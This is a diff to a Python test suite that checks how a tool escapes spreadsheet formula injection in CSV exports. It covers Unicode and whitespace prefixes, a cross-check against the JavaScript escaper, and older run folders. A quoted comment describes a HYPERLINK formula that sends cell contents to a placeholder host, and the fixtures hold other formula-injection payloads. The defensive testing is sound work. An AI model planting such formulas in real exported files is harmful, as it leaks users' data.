@@ -9,6 +9,7 @@ come from anyone: a file named ``=HYPERLINK("http://x/?"&B2,"y").png`` would sen
 from __future__ import annotations
 
 import csv
+import json
 import shutil
 import subprocess
 from pathlib import Path
@@ -35,7 +36,9 @@ def runs_as_formula(cell: str) -> bool:
 
 @pytest.mark.parametrize("text, expected", [
     ("=1+2", "\\x3d1+2"), ("@A1", "\\x40A1"), ("+C AX T1", "\\x2bC AX T1"), ("-cmd", "\\x2dcmd"),
-    ("-3.5", "-3.5"), ("+1e3", "+1e3"), ("-", "-"), ("a=b", "a=b"), ("", ""), (7, 7), (-2.5, -2.5)])
+    ("-3.5", "-3.5"), ("+1e3", "+1e3"), ("-", "-"), ("a=b", "a=b"), ("", ""), (7, 7), (-2.5, -2.5),
+    (" =1+2", "\\x20=1+2"), ("\t@A1", "\\x09@A1"), ("\ufeff=x()", "\\ufeff=x()"), ("\uff1dx()", "\\uff1dx()"),
+    ("\u3000+x", "\\u3000+x"), ("-inf", "\\x2dinf"), ("+1_000", "\\x2b1_000"), (" -", " -")])
 def test_formula_safe_escapes_a_first_formula_character_only(text, expected):
     assert formula_safe(text) == expected
     if isinstance(text, str):
@@ -65,12 +68,14 @@ def hostile_run(tmp_path_factory):
             a = (rng.integers(0, 60, (32, 32)) + 120 * j + 10 * i).astype(np.uint8)
             Image.fromarray(a).save(data / folder / name)
         shutil.copyfile(data / folder / NAMES[0], data / folder / "copy.png")  # a duplicate: quality.csv names it
+    Image.fromarray((rng.integers(0, 60, (32, 32)) + 60).astype(np.uint8)).save(data / "-top.png")  # escaped path
     meta = base / "meta.csv"
     with open(meta, "w", newline="") as fh:
         w = csv.writer(fh)
         w.writerow(["name", "=col", "series"])
         for i, name in enumerate(NAMES):
             w.writerow([name, "=1+2" if i % 2 else "-3.5", "+C AX T1" if i % 2 else "-T2 AX"])
+        w.writerow(["-top.png", "x", "AX T2"])  # joins by name though its path's first character is escaped
     assert main(["run", str(data), "--out", str(out), "--k", "2", "--labels-from-folders",
                  "--metadata", str(meta), *RUN]) == 0
     return data, out
@@ -91,12 +96,13 @@ def test_escaped_cells_read_back_as_the_names_and_values(hostile_run):
     data, out = hostile_run
     rows = read_assignments(out / "assignments.csv")
     assert sorted(unescape_name(r["path"]) for r in rows) == sorted(
-        f"{f}/{n}" for f in FOLDERS for n in NAMES + ["copy.png"])
-    assert {unescape_name(r["label"]) for r in rows} == set(FOLDERS)
+        [f"{f}/{n}" for f in FOLDERS for n in NAMES + ["copy.png"]] + ["-top.png"])
+    assert {unescape_name(r["label"]) for r in rows} == set(FOLDERS) | {""}  # the top-level file has none
     # the metadata joined by file name (escaped on both sides) and its column renamed
     by_name = {unescape_name(r["name"]): r for r in rows}
     assert unescape_name(by_name[NAMES[1]]["meta_=col"]) == "=1+2" and by_name[NAMES[0]]["meta_=col"] == "-3.5"
     assert unescape_name(by_name[NAMES[1]]["series"]) == "+C AX T1"
+    assert by_name["-top.png"]["series"] == "AX T2" and by_name["-top.png"]["path"] == "\\x2dtop.png"
 
 
 def test_view_list_csv_holds_no_formula(hostile_run):
@@ -105,6 +111,32 @@ def test_view_list_csv_holds_no_formula(hostile_run):
     cells = [c for row in csv.reader(text.splitlines()) for c in row]
     assert any(c.startswith("\\x3dHYPERLINK") or "/\\x3d" in c or c.startswith("\\x3dcmd") for c in cells)
     assert not [c for c in cells if runs_as_formula(c)]
+
+
+def test_view_list_csv_of_a_run_written_before_the_rule_holds_no_formula(hostile_run, tmp_path):
+    """A run folder from before (or edited) holds raw '=...' cells: view's list.csv still neutralises them."""
+    import pyarrow.parquet as pq
+
+    _, out = hostile_run
+    old = tmp_path / "old"
+    shutil.copytree(out, old)
+    raw = (old / "assignments.csv").read_text(encoding="utf-8").replace("\\x3d", "=").replace("\\x40", "@")
+    (old / "assignments.csv").write_text(raw, encoding="utf-8")
+    table = pq.read_table(old / "embeddings.parquet")
+    for name in ("path", "name"):
+        if name in table.column_names:
+            fixed = [v.replace("\\x3d", "=").replace("\\x40", "@") for v in table.column(name).to_pylist()]
+            table = table.set_column(table.column_names.index(name), name, pa_array(fixed))
+    pq.write_table(table, old / "embeddings.parquet")
+    assert any(c.startswith("=") for row in csv.reader(raw.splitlines()) for c in row)
+    text = "".join(Queries(ViewData(old, cache_dir=tmp_path / "viewcache")).csv_chunks(Focus()))
+    assert not [c for row in csv.reader(text.splitlines()) for c in row if runs_as_formula(c)]
+
+
+def pa_array(values):
+    import pyarrow as pa
+
+    return pa.array(values, type=pa.string())
 
 
 def test_export_csv_holds_no_formula(hostile_run, tmp_path):
@@ -122,6 +154,7 @@ def test_explorer_selection_csv_cell_follows_the_rule():
     js = (Path(__file__).parents[2] / "src/brainclust/report/templates/explorer.js").read_text()
     start = js.index("  function csvCell(v) {")
     body = js[start: js.index("\n  }\n", start) + 4]
-    script = body + 'console.log(JSON.stringify(["=1+2", "-3.5", "@A1", "-", "a=b", "+C"].map(csvCell)));'
+    cases = ["=1+2", "-3.5", "@A1", "-", "a=b", "+C", " =1+2", "\ufeff=x()", "\uff1dx()", "-inf", "+1e3"]
+    script = body + f"console.log(JSON.stringify({json.dumps(cases)}.map(csvCell)));"
     got = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True).stdout.strip()
-    assert got == '["\\\\x3d1+2","-3.5","\\\\x40A1","-","a=b","\\\\x2bC"]'
+    assert json.loads(got) == [formula_safe(c) for c in cases]  # the one rule, in both languages
